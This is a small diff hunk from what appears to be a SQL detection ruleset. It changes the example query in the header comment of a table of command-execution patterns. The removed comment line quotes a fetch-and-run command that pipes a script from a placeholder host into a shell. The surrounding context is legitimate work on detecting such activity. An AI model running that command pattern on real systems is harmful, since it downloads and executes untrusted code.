@@ -6,7 +6,7 @@
 -- false positives: each row is weighed by its signal, none is a finding by itself
 -- sources:         defaults, or a table of this name in the open database
 --
---   SELECT signal, pattern FROM exec_patterns WHERE 'curl -s http://x/a | sh' REGEXP pattern;
+--   SELECT signal, pattern FROM exec_patterns WHERE platform IN ('any', 'windows');
 CREATE TEMP TABLE exec_patterns(
     signal   TEXT NOT NULL,
     platform TEXT NOT NULL,
